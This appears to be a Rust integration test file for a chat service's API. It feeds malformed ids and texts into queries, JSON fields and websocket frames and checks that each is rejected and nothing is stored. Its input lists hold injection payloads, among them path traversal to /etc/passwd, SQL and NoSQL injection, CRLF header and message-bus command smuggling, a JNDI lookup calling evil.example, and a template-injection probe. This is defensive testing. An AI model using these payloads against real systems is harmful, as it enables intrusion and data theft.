//! Ids and other texts that would mean something else to a subject, a path, a query or a database.

use serde_json::{Value, json};
use tests::kit::installation::Place;
use tests::kit::lasting;
use tests::kit::person::Person;

use crate::aftermath::{UNSPEAKABLE, events_of};
use crate::routes::{Things, operations};

cases!(in_every_query, in_every_field, in_every_frame);

/// Ids that do not exist, as they are written into a path.
pub(crate) const BAD_IDS: &[&str] = &[
    "*",
    "%2A",
    ">",
    "%3E",
    "a.b",
    "..",
    "%2e%2e",
    "%20",
    "a%20b",
    "%0d%0aX-Evil:%201",
    "%00",
    "%ff",
    "%F0%9F%A6%80",
    "$JS.API.STREAM.DELETE.EVENTS_tidings",
    "$SYS.REQ.SERVER.PING",
    "tidings.evt.%3E",
    "_INBOX.%3E",
    "usr_",
    "room_*",
    "room_%3E",
    "msg_00000000000000000000000000%0d%0a",
    "room_00000000000000000000000000.x",
    "ROOM_00000000000000000000000000",
    "..%2f..%2fetc%2fpasswd",
    "%7B%22$ne%22:null%7D",
    "'%20or%201=1--",
    "-1",
    "null",
    "undefined",
];

/// The same as they are written into JSON.
fn bad_texts() -> Vec<String> {
    let texts = [
        "*",
        ">",
        "a.b",
        "..",
        "",
        " ",
        "a b",
        "\r\nPUB tidings.evt.room.x 2\r\nhi\r\n",
        "\0",
        "🦀",
        "$JS.API.STREAM.DELETE.EVENTS_tidings",
        "tidings.evt.>",
        "_INBOX.>",
        "usr_",
        "room_*",
        "room_>",
        "msg_00000000000000000000000000\r\n",
        "room_00000000000000000000000000.x",
        "' or 1=1--",
        "${jndi:ldap://evil.example}",
        "{{7*7}}",
        "null",
    ];
    let long = "x".repeat(10_000);
    texts.into_iter().map(ToOwned::to_owned).chain([long]).collect()
}

async fn in_every_query(place: Place) {
    let installation = lasting::one_process_installation().await;
    let (ada, bob) = (Person::register(&place, "ada").await, Person::register(&place, "bob").await);
    let (things, admin) = (Things::between(&ada, &bob).await, place.admin().await);
    let before = events_of(installation, &ada).await;
    let long = "x".repeat(10_000);
    for operation in
        operations(&place).await.iter().filter(|one| one.method == "GET" && one.secured)
    {
        let path = operation.among(&things);
        let caller = if operation.is_admins() { &admin } else { &ada };
        for name in &operation.query {
            for bad in BAD_IDS.iter().copied().chain(["", long.as_str()]) {
                let query = format!("{path}?{name}={bad}");
                let reply = caller.ask("GET", &query).once().await;
                // A query for nothing in particular gets the list.
                if bad.is_empty() && name == "query" && reply.status == 200 {
                    continue;
                }
                // A query for a name may be for any; nothing is found.
                let looks = ["q", "query", "name", "username"].contains(&name.as_str())
                    && reply.status == 200;
                if looks {
                    assert_eq!(reply.json["items"], json!([]), "{query:.120}");
                } else {
                    reply.any_problem(400..=413);
                }
            }
        }
    }
    assert_eq!(events_of(installation, &ada).await, before, "nothing was stored");
}

async fn in_every_field(place: Place) {
    let installation = lasting::one_process_installation().await;
    let (ada, bob) = (Person::register(&place, "ada").await, Person::register(&place, "bob").await);
    let room = ada.group(&[&bob]).await;
    let (messages, members) =
        (format!("/v1/rooms/{room}/messages"), format!("/v1/rooms/{room}/members"));
    let read = format!("/v1/rooms/{room}/read");
    let before = events_of(installation, &ada).await;
    for bad in bad_texts() {
        for (method, path, body) in [
            ("POST", "/v1/rooms", json!({"kind": "group", "name": "x", "members": [bad]})),
            ("POST", "/v1/rooms", json!({"kind": bad, "name": "x"})),
            ("POST", "/v1/rooms", json!({"kind": "group", "name": "x", "visibility": bad})),
            ("POST", "/v1/direct", json!({"members": [bad]})),
            ("POST", "/v1/direct", json!({"members": [format!("@{bad}")]})),
            ("POST", &members, json!({"user": bad})),
            ("POST", &members, json!({"user": format!("@{bad}")})),
            ("POST", &members, json!({"user": bob.id, "role": bad})),
            ("POST", &messages, json!({"body": UNSPEAKABLE, "thread_root_id": bad})),
            ("POST", &messages, json!({"body": UNSPEAKABLE, "attachments": [bad]})),
            ("POST", &messages, json!({"body": UNSPEAKABLE, "format": bad})),
            ("PUT", &read, json!({"message_id": bad})),
            ("PATCH", "/v1/users/me", json!({"avatar_media_id": bad})),
            ("POST", "/v1/media", json!({"filename": "x", "content_type": bad, "size": 5})),
            (
                "POST",
                "/v1/media",
                json!({"filename": "x", "content_type": "text/plain", "size": 5, "sha256": bad}),
            ),
        ] {
            let reply = ada.ask(method, path).json(body.clone()).once().await;
            let shown: String = body.to_string().chars().take(120).collect();
            // A name that could exist but does not may be "not found".
            assert!([400, 404].contains(&reply.status), "{method} {path} {shown}: {}", reply.text);
            reply.any_problem(400..=404);
        }
    }
    assert_eq!(events_of(installation, &ada).await, before, "nothing was stored");
}

async fn in_every_frame(place: Place) {
    let installation = lasting::one_process_installation().await;
    let ada = Person::register(&place, "ada").await;
    let room = ada.group(&[]).await;
    let mut socket = ada.connect().await;
    let posted = socket.post(&room, UNSPEAKABLE).await;
    let message = posted["result"]["id"].as_str().unwrap().to_owned();
    let before = events_of(installation, &ada).await;
    for bad in bad_texts() {
        for frame in [
            json!({"type": "post", "room_id": bad, "body": UNSPEAKABLE}),
            json!({"type": "post", "room_id": room, "body": UNSPEAKABLE, "thread_root_id": bad}),
            json!({"type": "post", "room_id": room, "body": UNSPEAKABLE, "attachments": [bad]}),
            json!({"type": "post", "room_id": room, "body": UNSPEAKABLE, "format": bad}),
            json!({"type": "edit", "message_id": bad, "body": UNSPEAKABLE}),
            json!({"type": "delete", "message_id": bad}),
            json!({"type": "read", "room_id": bad, "message_id": message}),
            json!({"type": "read", "room_id": room, "message_id": bad}),
            json!({"type": "typing", "room_id": bad, "active": true}),
            json!({"type": "react", "message_id": bad, "emoji": "👍"}),
            json!({"type": "watch_presence", "user_ids": [bad]}),
            json!({"type": bad}),
        ] {
            let answer = socket.call(frame.clone()).await;
            let shown: String = frame.to_string().chars().take(120).collect();
            assert_eq!(answer["type"], "error", "{shown}: {answer}");
            let status = answer["error"]["status"].as_u64().unwrap();
            assert!((400..=404).contains(&status), "{shown}: {answer}");
            assert!(answer.to_string().len() < 4_000, "what was sent is not sent back whole");
        }
        // A position to resume from is no id: an unknown one is reported as unknown.
        socket.send(json!({"type": "resume", "id": "again", "position": bad})).await;
        let told = |frame: &Value| frame["type"] == "reset" || frame["id"] == "again";
        let answer = socket.expect("a reset", told).await;
        assert_ne!(answer["type"], "resumed", "{bad}");
    }
    socket.all().await;
    assert_eq!(events_of(installation, &ada).await, before, "nothing was stored");
}
